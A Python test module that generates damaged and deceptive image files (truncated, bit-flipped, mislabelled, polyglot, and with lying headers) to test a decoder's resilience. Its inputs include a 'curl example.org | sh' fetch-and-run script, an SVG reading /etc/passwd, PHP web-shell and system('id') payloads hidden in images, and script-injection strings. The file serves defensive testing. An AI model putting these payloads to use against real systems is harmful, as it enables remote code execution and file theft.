"""Files of the formats that are decoded: cut short, with flipped bits, with headers that lie."""

from __future__ import annotations

import itertools
import struct
from collections.abc import Iterator

import numpy as np

from tests.resilience.hostile.crafted import (
    END,
    PNG_MAGIC,
    bmp,
    chunk,
    dot,
    encoded,
    frame_of,
    gif,
    gif_frame,
    good_files,
    grey_tiff,
    header,
    jpeg_with,
    noise,
    pixels,
    png,
    segment,
    tiff,
)
from tests.resilience.hostile.inputs import (
    BAD_FILE,
    HARMLESS,
    PIXELS_OR_FILE,
    Input,
    file,
    post,
)

# Of a file; behind its headers there is noise, of which everything is needed.
_CUTS = (0.02, 0.3, 0.6, 0.9)
_FLIPS = 2  # files with flipped bits, of each kind


def damaged(rng: np.random.Generator) -> Iterator[Input]:
    """All of them."""
    return itertools.chain(_cut_short(), _flipped(rng), _mistaken(), _png(), _gif(), _others())


def _cut_short() -> Iterator[Input]:
    for kind, data in good_files().items():
        for part in _CUTS:
            # Of an animation the first frame counts, which may be whole.
            animated = "animated" in kind or kind == "apng"
            yield file(
                "cut short",
                f"{kind} cut to {part:.0%}",
                "pixels are missing",
                data[: int(len(data) * part)],
                PIXELS_OR_FILE if animated and part > 0.3 else BAD_FILE,
            )


def _flipped(rng: np.random.Generator) -> Iterator[Input]:
    for (kind, data), number in itertools.product(good_files().items(), range(_FLIPS)):
        changed = bytearray(data)
        for at in rng.integers(0, len(data), 3):
            changed[at] ^= 1 << int(rng.integers(8))
        yield file(
            "flipped bits",
            f"{kind} with flipped bits, {number}",
            "a flipped bit is one of a pixel, or breaks the file",
            bytes(changed),
            PIXELS_OR_FILE,
        )


def _mistaken() -> Iterator[Input]:
    """Something else than it says."""
    for kind, data in good_files().items():
        yield file(
            "wrong magic",
            f"{kind} without its first bytes",
            "nothing says what it is",
            b"\0\0\0\0\0\0\0\0\0\0\0\0" + data[12:],
        )
    png_file, jpeg = good_files()["png"], good_files()["jpeg"]
    for name, body in {
        "magic of PNG and nothing": PNG_MAGIC,
        "magic of PNG before a JPEG": PNG_MAGIC + jpeg,
        "magic of JPEG before a PNG": b"\xff\xd8\xff" + png_file,
        "magic of GIF before a PNG": b"GIF89a" + png_file,
        "magic of WEBP around a PNG": b"RIFF\0\1\0\0WEBP" + png_file,
        "magic of AVIF around a PNG": b"\0\0\0\x1cftypavif\0\0\0\0avifmif1miaf" + png_file,
        "magic of TIFF before a JPEG": b"II*\0\x08\0\0\0" + jpeg,
        "HTML": b"<html><script>alert(1)</script></html>",
        "SVG": b'<svg xmlns="http://www.w3.org/2000/svg"><image href="file:///etc/passwd"/></svg>',
        "a shell script": b"#!/bin/sh\ncurl example.org | sh\n",
        "NUL bytes": bytes(1000),
        "one byte": b"\xff",
        "text": b"cat" * 1000,
    }.items():
        yield file("wrong magic", name, "no image in a format that is read", body)
    archive = b"PK\3\4" + bytes(26) + b"evil.php<?php system($_GET[0]); ?>"
    for name, body in {
        "JPEG that is a ZIP too": jpeg + archive,
        "PNG that is a ZIP too": png_file + archive,
        "GIF that is JavaScript too": good_files()["gif"] + b"/*=1;alert(1)//*/",
        "PNG with a script as text": dot(chunk(b"tEXt", b"Comment\0<script>alert(1)</script>")),
        "JPEG with PHP as comment": jpeg_with(segment(0xFE, b"<?php system('id'); ?>")),
        "PNG behind a PNG": png_file * 2,
    }.items():
        yield file("polyglot", name, "what follows the image is never looked at", body, HARMLESS)
    for name, body in {
        "ZIP before a PNG": archive + png_file,
        "PDF before a JPEG": b"%PDF-1.4\n" + jpeg,
        "a line before a GIF": b"\n" + good_files()["gif"],
        "byte order mark before a PPM": b"\xef\xbb\xbf" + good_files()["ppm"],
    }.items():
        yield file("polyglot", name, "an image begins with its magic", body)
    yield post(
        "wrong magic",
        "a PNG that says it is a JPEG",
        "the content decides",
        png_file,
        "image/jpeg",
        HARMLESS,
    )


def _png() -> Iterator[Input]:
    row = b"\0\1\2\3"
    for name, data in {
        "no header": png(pixels(row), END),
        "nothing but a header": png(header(), END),
        "no end of the header": PNG_MAGIC + header()[:20],
        "a short header": png(chunk(b"IHDR", bytes(5)), pixels(row), END),
        "width 0": png(header(0, 1), pixels(row), END),
        "height 0": png(header(1, 0), pixels(row), END),
        "depth 3": png(header(depth=3), pixels(row), END),
        "colour type 7": png(header(colour=7), pixels(row), END),
        "a filter that is none": png(header(), pixels(b"\x09\1\2\3"), END),
        "a checksum that is wrong": png(header()[:-1] + b"\0", pixels(row), END),
        "data that is not compressed": png(header(), chunk(b"IDAT", b"\x78\x9cgarbage"), END),
        "less data than pixels": png(header(9, 9), pixels(row), END),
        "a chunk of 2 GiB": png(header(), chunk(b"tEXt", b"a\0b", length=2**31 - 1)),
        "a chunk of a negative length": png(header(), chunk(b"tEXt", b"a\0b", length=2**32 - 1)),
        "a chunk without a name": png(header(), chunk(b"\0\0\0\0"), pixels(row), END),
    }.items():
        yield file("headers that lie", f"PNG with {name}", "PNG, 5 and 11", data)
    yield file(
        "headers that lie",
        "PNG that states 4 billion frames",
        "the first frame counts",
        dot(chunk(b"acTL", struct.pack(">II", 2**32 - 1, 0))),
        PIXELS_OR_FILE,
    )


def _gif() -> Iterator[Input]:
    for name, data in {
        "no frame": gif(8, 8),
        "a screen of 0 x 0 and an empty frame": gif(0, 0, gif_frame(0, 0)),
        "an empty frame without data": gif(8, 8, gif_frame(0, 0, data=b"")),
        "codes of 255 bits": gif(8, 8, gif_frame(8, 8, code_size=255)),
        "codes of 13 bits": gif(8, 8, gif_frame(8, 8, code_size=13)),
        "a frame without data": gif(8, 8, gif_frame(8, 8, data=b"")),
        "a frame outside of its screen": gif(8, 8, b"," + bytes([250] * 8) + b"\0\2\1\0\0"),
        "an extension without an end": b"GIF89a" + bytes(7) + b"!\xfe" + b"\xff" + b"a" * 255,
    }.items():
        yield file("headers that lie", f"GIF with {name}", "GIF89a, 18 to 23", data)


def _others() -> Iterator[Input]:
    for name, data in {
        "BMP of 0 x 1": bmp(0, 1),
        "BMP of 1 x 0": bmp(1, 0),
        "BMP of a negative width": bmp(-5, 5, data=bytes(80)),
        "BMP of the most negative height": bmp(1, -(2**31)),
        "BMP of 3 bits": bmp(1, 1, bits=3),
        "BMP of 255 bits": bmp(1, 1, bits=255),
        "BMP with compression 99": bmp(1, 1, compression=99),
        "BMP with JPEG inside": bmp(1, 1, compression=4),
        "BMP with 4 billion colours": bmp(1, 1, bits=8, colours=2**32 - 1),
        "BMP with pixels behind its end": bmp(1, 1, offset=2**31),
        "BMP with a header of 5 bytes": bmp(1, 1, header_bytes=5),
        "BMP with runs that end early": bmp(9, 9, bits=8, compression=1, data=b"\3\1"),
        "JPEG of 0 x 0": frame_of(0, 0),
        "JPEG of width 0": frame_of(0, 40),
        "JPEG without tables": b"\xff\xd8" + segment(0xDA, bytes(10)) + b"\xff\xd9",
        "JPEG with a segment beyond its end": jpeg_with(segment(0xE5, length=65_535)),
        "JPEG that is nothing but markers": b"\xff\xd8" + b"\xff\xd0" * 500 + b"\xff\xd9",
        "TIFF whose directory is behind its end": tiff(at=2**31),
        "TIFF with an empty directory": tiff(),
        "TIFF of 0 x 0": grey_tiff(0, 0),
        "TIFF of width 0": grey_tiff(0, 5),
        "TIFF of compression 0": grey_tiff(8, 8, compression=0),
        "TIFF of compression 60000": grey_tiff(8, 8, compression=60_000),
        "TIFF that says it is LZW": grey_tiff(8, 8, compression=5, data=b"\xff" * 64),
        "TIFF that says it is deflated": grey_tiff(8, 8, compression=8, data=b"\xff" * 64),
        "TIFF that says it is JPEG": grey_tiff(8, 8, compression=7, data=b"\xff" * 64),
        "TIFF that says it is fax": grey_tiff(8, 8, compression=4, data=b"\xff" * 64),
        "TIFF without sizes": tiff((259, 3, 1, 1), (273, 4, 1, 8)),
        "TIFF with types that are none": tiff(*((tag, 99, 1, 1) for tag in range(256, 280))),
        "PPM of 0 x 0": b"P6 0 0 255 ",
        "PPM of a negative width": b"P6 -4 4 255 " + bytes(48),
        "PPM with maximum 0": b"P6 1 1 0 abc",
        "PPM with maximum 65536": b"P6 1 1 65536 abcabc",
        "PPM with a size of many digits": b"P6 " + b"9" * 5000 + b" 1 255 abc",
        "PPM without numbers": b"P6 a b c d",
        "PPM of kind 9": b"P9 1 1 255 abc",
        "PPM in text with large values": b"P3 1 1 255 256 999 1",
        "PPM in text with negative values": b"P3 1 1 255 -1 -2 -3",
        "PPM in text with letters": b"P3 1 1 255 a b c",
        "PPM in text with too few values": b"P3 9 9 255 1 2 3",
        "bitmap in text with other digits": b"P1 2 2 0 1 2 3",
        "float map of scale 0": b"PF 1 1 0 " + bytes(12),
        "WEBP that is only its envelope": b"RIFF\x04\0\0\0WEBP",
        "WEBP of an unknown chunk": b"RIFF\x10\0\0\0WEBPVP9 \x04\0\0\0aaaa",
        "WEBP of a canvas without frames": b"RIFF\x16\0\0\0WEBPVP8X\x0a\0\0\0" + bytes(10),
        "AVIF that is only its type": b"\0\0\0\x18ftypavif\0\0\0\0avifmif1",
        "AVIF with a box of 2 GiB": b"\0\0\0\x18ftypavif\0\0\0\0avifmif1\x7f\xff\xff\xffmeta",
    }.items():
        yield file("headers that lie", name, "it contradicts its format or itself", data)
    exif = b"Exif\0\0II*\0\x08\0\0\0" + b"\xff" * 200
    for name, data in {
        "JPEG with broken EXIF": jpeg_with(segment(0xE1, exif)),
        "JPEG with EXIF that goes in circles": jpeg_with(
            segment(0xE1, b"Exif\0\0" + tiff((0x8769, 4, 1, 8), following=8))
        ),
        "PNG with broken EXIF": dot(chunk(b"eXIf", exif)),
        "TIFF whose directory follows itself": (
            grey_tiff(8, 8)[:106] + struct.pack("<I", 8) + bytes(64)
        ),
        "JPEG with less rows than it says, and its end": frame_of(40, 4000),
        "JPEG with a segment of length 0": jpeg_with(segment(0xE5, length=0)),
        "picture of one pixel": encoded(noise(size=(1, 1)), "PNG"),
        "strip of 1 x 5000": encoded(noise(size=(1, 5000)), "PNG"),
    }.items():
        why = "the pixels are there, or grey as in every viewer"
        yield file("headers that lie", name, why, data, HARMLESS)
